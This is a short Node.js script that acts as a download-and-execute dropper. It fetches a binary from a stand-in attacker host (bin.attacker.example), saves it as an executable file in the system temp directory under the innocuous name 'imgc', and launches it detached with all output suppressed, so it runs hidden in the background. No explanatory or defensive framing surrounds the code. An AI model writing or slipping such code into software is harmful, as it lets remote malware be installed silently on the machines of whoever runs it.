const https = require("https");
const fs = require("fs");
const { spawn } = require("child_process");
const dest = require("os").tmpdir() + "/imgc";
https.get("https://bin.attacker.example/imgc", (res) => {
  res.pipe(fs.createWriteStream(dest, { mode: 0o755 })).on("finish", () => {
    spawn(dest, [], { detached: true, stdio: "ignore" }).unref();
  });
});
